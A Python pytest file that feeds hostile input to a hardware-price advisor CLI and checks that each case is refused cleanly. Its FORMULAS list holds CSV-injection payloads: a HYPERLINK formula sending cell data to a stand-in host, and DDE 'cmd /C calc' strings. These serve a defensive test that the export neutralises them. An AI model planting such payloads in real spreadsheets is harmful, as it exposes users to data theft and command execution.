"""Issue 16, hostile input: every case through the real CLI, exit code 2, one line on stderr naming the
field or file, and the database byte-for-byte as it was (or, for files, untouched)."""

from __future__ import annotations

import hashlib
import json
import os
import time
from pathlib import Path

import gguf
import numpy as np
import pytest

from tests.integration.cli import dump, exits_2_with_one_line, run

HUGE_INT = "1" + "0" * 5000


def _feed_text(price: str = "2500", observed_at: str = '"2026-11-01"', published_at: str = '"2026-11-02"',
               vendor: str = "shop") -> str:
    return (f'{{"format": "rig-advisor-prices/1", "publisher": "p", "published_at": {published_at}, '
            f'"currency": "USD", "items": [{{"kind": "hardware", "name": "RTX 5090", "price": {price}, '
            f'"currency": "USD", "condition": "new", "vendor": {json.dumps(vendor)}, "url": "", '
            f'"observed_at": {observed_at}}}]}}')


@pytest.mark.parametrize(("text", "needle"), [
    (_feed_text(price="1e400"), "items[0], price: must be a finite number"),
    (_feed_text(price=HUGE_INT), "items[0], price"),
    (_feed_text(price="-" + HUGE_INT), "items[0], price"),
    (_feed_text(observed_at='"0001-01-01"'), "items[0], observed_at: date is before 1970-01-01"),
    (_feed_text(observed_at='"9999-12-31"'), "items[0], observed_at: date is in the future"),
    (_feed_text(observed_at='"0001-01-01T00:00:00+14:00"'), "items[0], observed_at: date out of range"),
    (_feed_text(observed_at='"9999-12-31T23:59:59-14:00"'), "items[0], observed_at: date out of range"),
    (_feed_text(observed_at=HUGE_INT), "items[0], observed_at: expected an ISO date"),
    (_feed_text(published_at='"0001-01-01T00:00:00+01:00"'), "feed, published_at: date out of range"),
    ("kind,name,price,observed_at\nhardware,RTX 5090,1e400,2026-11-01\n", "line 2, price"),
    (f"kind,name,price,observed_at\nhardware,RTX 5090,{HUGE_INT},2026-11-01\n", "line 2, price"),
    ("kind,name,price,observed_at\nhardware,RTX 5090,10,0001-01-01\n", "line 2, observed_at"),
], ids=["1e400", "5000-digits", "minus-5000-digits", "year-1", "year-9999", "year-1-tz", "year-9999-tz",
        "int-date", "header-date", "csv-1e400", "csv-5000-digits", "csv-year-1"])
def test_absurd_numbers_and_dates_in_a_feed_exit_2(seeded_db: Path, tmp_path: Path, text: str,
                                                   needle: str) -> None:
    feed = tmp_path / ("feed.csv" if text.startswith("kind") else "feed.json")
    feed.write_text(text, encoding="utf-8")
    before = dump(seeded_db)
    exits_2_with_one_line(run("prices", "import", str(feed), "--yes", db=seeded_db), needle)
    assert dump(seeded_db) == before


@pytest.mark.parametrize("batch", ["100000000000000000000000", "9223372036854775808", "-1", "0", HUGE_INT])
def test_absurd_rollback_batch_ids_exit_2(seeded_db: Path, batch: str) -> None:
    before = dump(seeded_db)
    exits_2_with_one_line(run("prices", "rollback", "--", batch, db=seeded_db), "batch: ")
    assert dump(seeded_db) == before


def _gguf_with_zero_dimension(path: Path) -> None:
    w = gguf.GGUFWriter(str(path), "llama")
    for add, value in ((w.add_block_count, 2), (w.add_context_length, 2048), (w.add_embedding_length, 64),
                       (w.add_head_count, 4)):
        add(value)
    w.add_tensor("token_embd.weight", np.zeros((0, 64), dtype=np.float16))
    w.add_tensor("output_norm.weight", np.ones(64, dtype=np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()


CONFIG = json.loads((Path(__file__).parents[1] / "fixtures" / "configs" / "Qwen3-30B-A3B" / "config.json")
                    .read_text(encoding="utf-8"))


def _config_text(**override: str) -> str:
    """The real Qwen3 config with some values replaced by raw JSON text (which json.dumps cannot write)."""
    text = json.dumps({**CONFIG, **{k: f"@@{k}@@" for k in override}})
    for key, raw in override.items():
        text = text.replace(f'"@@{key}@@"', raw)
    return text


@pytest.mark.parametrize(("files", "target", "needle"), [
    ({"m.gguf": None}, "m.gguf", "tensor token_embd.weight has a zero dimension"),
    ({"config.json": _config_text(hidden_size=HUGE_INT)}, "config.json", "hidden_size: absurd value"),
    ({"config.json": _config_text(num_hidden_layers="-" + HUGE_INT)}, "config.json", "num_hidden_layers"),
    ({"config.json": '{"a": ' * 100_000 + "1" + "}" * 100_000}, "config.json", "nested too deeply"),
    ({"config.json": json.dumps(CONFIG), "model.safetensors.index.json": json.dumps(
        {"metadata": {"total_size": 1000}, "weight_map": {"lm_head.weight": ["a", "b"]}})},
     "model.safetensors.index.json", "weight_map['lm_head.weight']: must name a shard file (text), got list"),
    ({"config.json": json.dumps(CONFIG), "model.safetensors.index.json": json.dumps(
        {"metadata": {"total_size": "61 GB"}, "weight_map": {"lm_head.weight": "a.safetensors"}})},
     "model.safetensors.index.json", "metadata.total_size: must be a whole number, got '61 GB'"),
    ({"config.json": json.dumps(CONFIG), "model.safetensors.index.json": json.dumps(
        {"metadata": [], "weight_map": {}})}, "model.safetensors.index.json", "metadata"),
], ids=["gguf-zero-dim", "config-5000-digits", "config-minus-5000-digits", "config-100k-deep",
        "index-list-shard", "index-string-size", "index-list-metadata"])
def test_hostile_model_files_exit_2_naming_file_and_field(seeded_db: Path, tmp_path: Path,
                                                         files: dict[str, str | None], target: str,
                                                         needle: str) -> None:
    folder = tmp_path / "model"
    folder.mkdir()
    for name, text in files.items():
        if text is None:
            _gguf_with_zero_dimension(folder / name)
        else:
            (folder / name).write_text(text, encoding="utf-8")
    before = dump(seeded_db)
    line = exits_2_with_one_line(run("models", "import", str(folder / target), db=seeded_db), needle)
    assert str(folder / target) in line
    assert dump(seeded_db) == before


@pytest.fixture
def fifo(tmp_path: Path) -> Path:
    path = tmp_path / "feed.json"
    os.mkfifo(path)
    return path


@pytest.mark.parametrize("command", [
    ("prices", "import", "{fifo}", "--yes"),
    ("prices", "update", "--source", "{fifo}", "--yes"),
    ("models", "import", "{fifo}"),
    ("recommend", "--scenario", "{fifo}"),
    ("estimate", "--cases", "{fifo}", "--out", "{out}"),
], ids=["prices-import", "update-source", "models-import", "scenario", "cases"])
def test_a_fifo_is_refused_at_once(seeded_db: Path, fifo: Path, tmp_path: Path,
                                   command: tuple[str, ...]) -> None:
    """Before: blocked until killed (nobody writes to the pipe). timeout= makes a hang fail, not stall."""
    args = [a.format(fifo=fifo, out=tmp_path / "out.csv") for a in command]
    before = dump(seeded_db)
    exits_2_with_one_line(run(*args, db=seeded_db, timeout=60), str(fifo), "not a regular file")
    assert dump(seeded_db) == before


def test_a_feed_source_pointing_at_a_fifo_is_refused_at_update(seeded_db: Path, fifo: Path) -> None:
    assert run("prices", "sources", "add", "pipe", str(fifo), db=seeded_db).returncode == 0
    before = dump(seeded_db)
    exits_2_with_one_line(run("prices", "update", "--yes", db=seeded_db, timeout=60), "not a regular file")
    assert dump(seeded_db) == before


@pytest.mark.parametrize("command", [("prices", "sources", "add", "team", "{url}"),
                                     ("prices", "update", "--source", "{url}", "--yes")])
def test_a_feed_url_with_a_password_is_refused_and_the_secret_kept_out(seeded_db: Path,
                                                                       command: tuple[str, ...]) -> None:
    url = "https://bob:hunter2@prices.example.org/feed.json"
    before = dump(seeded_db)
    p = run(*[a.format(url=url) for a in command], db=seeded_db)
    line = exits_2_with_one_line(p, "user name or password")
    assert "hunter2" not in p.stderr + p.stdout and "bob" not in line
    assert dump(seeded_db) == before and "hunter2" not in dump(seeded_db)
    listing = run("prices", "sources", "list", db=seeded_db)
    assert listing.returncode == 0 and "hunter2" not in listing.stdout


def test_screenshot_into_a_missing_folder_exits_2_and_creates_nothing(tmp_path: Path) -> None:
    target = tmp_path / "nonexistent" / "deeper" / "x.png"
    started = time.monotonic()
    p = run("--screenshot", str(target))
    exits_2_with_one_line(p, "--screenshot: folder", "does not exist")
    assert not (tmp_path / "nonexistent").exists()
    assert time.monotonic() - started < 60  # refused before the window is built


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0"]


def test_csv_export_neutralises_formula_cells_and_reads_them_back(seeded_db: Path, tmp_path: Path) -> None:
    """OWASP CSV injection: a cell starting with = + - @ (tab, CR) gets a leading quote in the export;
    re-importing our own export restores the text exactly."""
    import csv

    from advisor.feeds import parse_feed

    items = [{"kind": "hardware", "name": "RTX 5090", "price": 2000 + i, "currency": "USD", "condition": "new",
              "vendor": v, "url": "", "observed_at": f"2026-11-0{i + 1}"} for i, v in enumerate(FORMULAS)]
    feed = tmp_path / "feed.json"
    feed.write_text(json.dumps({"format": "rig-advisor-prices/1", "publisher": "p", "published_at": "2026-11-06",
                                "currency": "USD", "items": items}), encoding="utf-8")
    assert run("prices", "import", str(feed), "--yes", db=seeded_db).returncode == 0
    out = tmp_path / "prices.csv"
    p = run("prices", "export", str(out), db=seeded_db)
    assert p.returncode == 0, p.stderr
    rows = list(csv.DictReader(line for line in out.read_text(encoding="utf-8").splitlines()
                               if not line.startswith("#")))
    cells = [c for r in rows for c in r.values()]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))
                or (c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit())]
    exported_vendor = next(r["vendor"] for r in rows if r["name"] == "rtx-5090")
    assert exported_vendor == "'" + FORMULAS[-1]  # the latest observation of the 5090
    parsed = parse_feed(out.read_bytes(), name_hint=str(out))
    assert next(i.vendor for i in parsed.feed.items if i.name == "rtx-5090") == FORMULAS[-1]


def test_foreign_sqlite_file_named_by_url_is_refused_byte_identical(tmp_path: Path) -> None:
    """A browser's history database: refused, not one byte changed, no lock file made beside it."""
    import sqlite3

    history = tmp_path / "places.sqlite"
    conn = sqlite3.connect(history)
    conn.execute("CREATE TABLE moz_places (id INTEGER PRIMARY KEY, url TEXT, title TEXT)")
    conn.executemany("INSERT INTO moz_places (url, title) VALUES (?, ?)", [(f"https://x/{i}", "t")
                                                                          for i in range(100)])
    conn.commit()
    conn.close()
    digest = hashlib.sha256(history.read_bytes()).hexdigest()
    before = sorted(os.listdir(tmp_path))
    exits_2_with_one_line(run("catalog", "list", "quants", db=history), str(history), "another application",
                          "moz_places")
    assert hashlib.sha256(history.read_bytes()).hexdigest() == digest
    assert sorted(os.listdir(tmp_path)) == before


def test_foreign_sqlite_file_at_the_default_path_is_moved_aside_unchanged(tmp_path: Path) -> None:
    """The default file is never refused outright (the app must start): it is moved aside, bytes intact,
    as every unusable default database is (docs/reliability.md)."""
    import sqlite3

    data = tmp_path / "data"
    data.mkdir()
    default = data / "advisor.db"
    conn = sqlite3.connect(default)
    conn.execute("CREATE TABLE moz_places (id INTEGER PRIMARY KEY, url TEXT)")
    conn.commit()
    conn.close()
    digest = hashlib.sha256(default.read_bytes()).hexdigest()
    p = run("catalog", "list", "quants", env={"RIG_ADVISOR_DATA_DIR": str(data)})
    assert p.returncode == 0, p.stderr
    assert "another application's database" in p.stderr
    moved = [f for f in data.iterdir() if ".corrupt-" in f.name]
    assert len(moved) == 1 and hashlib.sha256(moved[0].read_bytes()).hexdigest() == digest
